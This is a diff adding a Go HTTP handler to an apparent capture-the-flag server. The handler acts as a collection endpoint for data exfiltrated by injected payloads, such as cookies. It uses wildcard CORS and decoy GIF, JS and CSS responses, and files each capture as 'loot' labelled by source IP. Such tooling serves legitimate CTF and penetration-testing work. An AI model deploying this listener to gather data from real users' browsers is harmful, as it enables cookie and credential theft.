@@ -0,0 +1,150 @@
+package handlers
+
+import (
+	"bytes"
+	"errors"
+	"fmt"
+	"net"
+	"net/http"
+	"strings"
+	"time"
+
+	"github.com/m1kkY8/ctfserver/pkg/config"
+	"github.com/m1kkY8/ctfserver/pkg/exfil"
+	"github.com/m1kkY8/ctfserver/pkg/logger"
+	"github.com/m1kkY8/ctfserver/pkg/service"
+)
+
+// transparentGIF is the smallest transparent 1x1 GIF
+var transparentGIF = []byte{
+	0x47, 0x49, 0x46, 0x38, 0x39, 0x61, 0x01, 0x00, 0x01, 0x00, 0x80, 0x00, 0x00, 0x00, 0x00, 0x00,
+	0xff, 0xff, 0xff, 0x21, 0xf9, 0x04, 0x01, 0x00, 0x00, 0x00, 0x00, 0x2c, 0x00, 0x00, 0x00, 0x00,
+	0x01, 0x00, 0x01, 0x00, 0x00, 0x02, 0x02, 0x44, 0x01, 0x00, 0x3b,
+}
+
+// maxLabelLength bounds the label a path below the prefix gives the loot
+const maxLabelLength = 64
+
+// ExfilHandler saves the data payloads leak through requests as loot
+type ExfilHandler struct {
+	fileService *service.FileService
+	prefix      string // Path the handler is mounted at, e.g. /x
+	response    string // config.ExfilGIF, ExfilJS, ...
+}
+
+// NewExfilHandler creates a new exfiltration handler mounted at prefix,
+// answering every request with response
+func NewExfilHandler(fileService *service.FileService, prefix, response string) *ExfilHandler {
+	return &ExfilHandler{
+		fileService: fileService,
+		prefix:      prefix,
+		response:    response,
+	}
+}
+
+// ServeHTTP saves the data of the request and answers with the configured
+// response whatever happened, so payloads never see an error
+func (h *ExfilHandler) ServeHTTP(w http.ResponseWriter, r *http.Request) {
+	// Payloads run in pages of other origins
+	w.Header().Set("Access-Control-Allow-Origin", "*")
+	if r.Method == http.MethodOptions {
+		w.Header().Set("Access-Control-Allow-Methods", "*")
+		w.Header().Set("Access-Control-Allow-Headers", "*")
+		w.WriteHeader(http.StatusNoContent)
+		return
+	}
+	defer h.writeResponse(w)
+
+	source := sourceAddress(r)
+	fields := map[string]interface{}{
+		"source":     source,
+		"user_agent": r.UserAgent(),
+	}
+	if referer := r.Referer(); referer != "" {
+		fields["referer"] = referer
+	}
+	if origin := r.Header.Get("Origin"); origin != "" {
+		fields["origin"] = origin
+	}
+
+	r.Body = http.MaxBytesReader(w, r.Body, h.fileService.MaxSize())
+	rest := strings.Trim(strings.TrimPrefix(r.URL.Path, h.prefix), "/")
+	items, err := exfil.Collect(r, rest)
+	if err != nil {
+		var maxBytesErr *http.MaxBytesError
+		if errors.As(err, &maxBytesErr) {
+			logger.Logger.WithFields(fields).Warn("Rejected exfiltrated data over maximum size")
+			return
+		}
+		logger.Logger.WithError(err).WithFields(fields).Warn("Failed to read exfiltrated data")
+	}
+	if len(items) == 0 {
+		logger.Logger.WithFields(fields).Debug("Exfiltration request without data")
+		return
+	}
+
+	// A path below the prefix labels the loot, unless it is the data itself
+	label := "x"
+	if items[0].From != exfil.FromPath && len(rest) <= maxLabelLength && service.IsValidUploadName(rest) {
+		label = rest
+	}
+	extension := ".txt"
+	if !exfil.IsText(items) {
+		extension = ".bin"
+	}
+	filename := exfilName(label, source, time.Now(), extension)
+
+	descriptions := make([]string, len(items))
+	for i, item := range items {
+		descriptions[i] = item.String()
+	}
+	fields["filename"] = filename
+	fields["items"] = descriptions
+
+	content := exfil.Format(items)
+	// Requests of one source within a millisecond get the same name
+	result, err := h.fileService.SaveNewUpload(filename, bytes.NewReader(content), int64(len(content)), source, 0)
+	switch {
+	case errors.Is(err, service.ErrInsufficientStorage):
+		logger.Logger.WithError(err).WithFields(fields).Warn("Rejected upload over storage limits")
+	case err != nil:
+		logger.Logger.WithError(err).WithFields(fields).Error("Failed to save upload")
+	case !result.Success:
+		logger.Logger.WithFields(fields).WithField("error", result.Error).Warn("Rejected exfiltrated data")
+	default:
+		fields["filename"] = result.Filename
+		fields["size"] = result.Size
+		fields["path"] = result.Path
+		fields["via"] = "exfil"
+		logger.Logger.WithFields(fields).Info("File uploaded successfully")
+	}
+}
+
+// exfilName names loot after its label, source and time, e.g.
+// cookies-10.10.11.5-20240102T150405.123Z.txt
+func exfilName(label, source string, received time.Time, extension string) string {
+	address := source
+	if ip := net.ParseIP(source); ip != nil {
+		address = strings.ReplaceAll(ip.String(), ":", "_")
+	}
+	return fmt.Sprintf("%s-%s-%s%s", label, address, received.UTC().Format("20060102T150405.000Z"), extension)
+}
+
+// writeResponse answers with the configured response
+func (h *ExfilHandler) writeResponse(w http.ResponseWriter) {
+	w.Header().Set("Cache-Control", "no-store")
+	switch h.response {
+	case config.ExfilGIF:
+		w.Header().Set("Content-Type", "image/gif")
+		w.WriteHeader(http.StatusOK)
+		w.Write(transparentGIF)
+	case config.ExfilJS:
+		w.Header().Set("Content-Type", "application/javascript")
+		w.WriteHeader(http.StatusOK)
+	case config.ExfilCSS:
+		w.Header().Set("Content-Type", "text/css")
+		w.WriteHeader(http.StatusOK)
+	default:
+		w.WriteHeader(http.StatusNoContent)
+	}
+}